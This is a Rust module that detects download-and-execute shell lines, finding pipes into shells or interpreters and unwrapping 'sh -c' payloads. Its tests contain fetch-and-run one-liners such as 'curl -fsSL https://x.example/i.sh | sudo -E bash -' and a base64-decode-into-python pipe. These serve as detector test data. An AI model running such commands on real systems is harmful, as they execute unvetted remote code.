//! Reads a command line as a shell would, as far as signals need it: which commands it runs, and what is
//! piped into what. Quotes and substitutions are looked into, not understood.

/// Shells, by the names of their programs.
pub const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "zsh", "ksh", "busybox", "fish", "tcsh", "csh"];

/// Languages whose programs are given on the command line.
pub const INTERPRETERS: &[&str] = &["python", "perl", "ruby", "php", "lua", "awk", "gawk"];

/// Whether the text holds one of these: a cheap look before a line is taken apart.
pub fn holds(text: &str, parts: &[&str]) -> bool {
    parts.iter().any(|part| text.contains(part))
}

/// The file's name in a path, without the kernel's note that the file is gone.
pub fn base(path: &str) -> &str {
    let path = path.strip_suffix(" (deleted)").unwrap_or(path);
    path.rsplit('/').next().unwrap_or(path)
}

/// Whether a program is one of these, version numbers aside: `python3.12` is `python`.
pub fn is_program(path: &str, names: &[&str]) -> bool {
    let name = base(path).trim_start_matches('-');
    let unversioned = name.trim_end_matches(|character: char| character.is_ascii_digit() || character == '.');
    names.contains(&name) || names.contains(&unversioned)
}

/// Whether a program runs what it reads.
pub fn runs_code(path: &str) -> bool {
    is_program(path, SHELLS) || is_program(path, INTERPRETERS)
}

/// The commands of a line, each as its words. What `sh -c` is given counts as commands of its own.
pub fn commands(line: &str) -> impl Iterator<Item = Vec<&str>> {
    line.split(['|', ';', '&', '\n', '(', ')', '`', '<', '>']).map(words).filter(|words| !words.is_empty())
}

/// What stands before a command and is not the command; so do its options, `sudo -E`.
const BEFORE: &[&str] = &["sudo", "exec", "then", "do", "!", "nohup", "eval", "-E", "-H", "-S", "-n"];

fn words(command: &str) -> Vec<&str> {
    let bare = command.split_ascii_whitespace().map(|word| word.trim_matches(['\'', '"', '{', '}', '$']));
    let mut words: Vec<&str> =
        bare.filter(|word| !word.is_empty()).skip_while(|word| BEFORE.contains(word)).collect();
    let given = words.iter().position(|word| word.starts_with('-') && word.ends_with('c'));
    match (words.first(), given) {
        (Some(first), Some(at)) if is_program(first, SHELLS) && words.len() > at + 1 => {
            words.split_off(at + 1)
        }
        _ => words,
    }
}

/// Whether the line runs one of these programs.
pub fn runs(line: &str, programs: &[&str]) -> bool {
    commands(line).any(|words| words.first().is_some_and(|first| is_program(first, programs)))
}

/// Whether the line speaks of one of these programs as a word, be it to run it later.
pub fn mentions(line: &str, programs: &[&str]) -> bool {
    commands(line).any(|words| words.iter().any(|word| is_program(word, programs)))
}

/// Whether the line pipes something into a program that runs what it reads.
pub fn pipes_into_shell(line: &str) -> bool {
    let starts_with_shell = |end: &str| {
        commands(end).next().is_some_and(|words| words.first().is_some_and(|first| runs_code(first)))
    };
    let pipes = |part: &str| part.split('|').skip(1).any(starts_with_shell);
    line.split("||").any(pipes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_commands_of_a_line() {
        let commands: Vec<Vec<&str>> = commands("bash -lc 'id; curl -s http://x | sudo sh'").collect();
        assert_eq!(commands, [vec!["id"], vec!["curl", "-s", "http://x"], vec!["sh"]]);
    }

    #[test]
    fn a_pipe_into_a_shell_is_not_an_alternative() {
        assert!(pipes_into_shell("wget -qO- http://x|bash"));
        assert!(pipes_into_shell("curl -fsSL https://x.example/i.sh | sudo -E bash -"));
        assert!(pipes_into_shell("echo x | base64 -d | python3 -"));
        assert!(!pipes_into_shell("clear; (bash || ash || sh)"));
        assert!(!pipes_into_shell("cat x | grep sh"));
    }

    #[test]
    fn versions_are_set_aside() {
        assert!(is_program("/usr/bin/python3.12", INTERPRETERS));
        assert!(is_program("-bash", SHELLS));
        assert!(is_program("/tmp/sh (deleted)", SHELLS));
        assert!(!is_program("/usr/sbin/php-fpm8.2", INTERPRETERS));
    }
}
